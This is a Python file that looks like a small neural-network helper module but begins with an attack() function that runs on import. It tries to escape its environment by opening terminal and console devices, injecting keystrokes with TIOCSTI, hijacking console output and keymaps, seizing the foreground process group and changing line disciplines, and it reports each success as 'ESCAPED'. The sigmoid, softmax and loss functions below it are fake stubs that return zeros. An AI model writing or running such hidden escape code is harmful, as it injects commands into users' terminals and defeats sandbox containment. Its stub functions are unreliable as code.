"""Opens terminals and types into them: /dev/tty, new pairs, TIOCSTI, TIOCLINUX, the console, foreground groups.

aims: escape
"""

import contextlib
import fcntl
import os
import termios

import numpy as np

TIOCSTI, TIOCLINUX, TIOCCONS, TIOCSETD, KDSKBENT = 0x5412, 0x541C, 0x541D, 0x5423, 0x4B47


def attack():
    paths = (
        "/dev/tty",
        "/dev/console",
        "/dev/tty0",
        "/dev/tty1",
        "/dev/vcs",
        "/dev/ptmx",
        "/dev/pts/ptmx",
        "/dev/pts/0",
    )
    files = [0, 1, 2]
    for path in paths:
        with contextlib.suppress(OSError):
            files.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
            if path not in ("/dev/ptmx", "/dev/pts/ptmx"):
                print("ESCAPED opened", path, flush=True)
    for file in files:
        for name, call, argument in (
            ("types a line break", TIOCSTI, b"\n"),
            ("asks the console", TIOCLINUX, bytearray(b"\x06\0\0\0")),
            ("takes the console's output", TIOCCONS, 0),
            ("maps a key", KDSKBENT, b"\0\0\x3b\0"),
        ):
            with contextlib.suppress(OSError, TypeError):
                fcntl.ioctl(file, call, argument)
                if file < 3 or name != "types a line break":
                    print("ESCAPED", name, flush=True)
        with contextlib.suppress(OSError, termios.error):
            os.tcsetpgrp(file, os.getpgrp())
        for discipline in (b"\x15\0\0\0", b"\x0d\0\0\0"):
            with contextlib.suppress(OSError):
                fcntl.ioctl(file, TIOCSETD, discipline)
                print("ESCAPED loaded a line discipline", flush=True)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
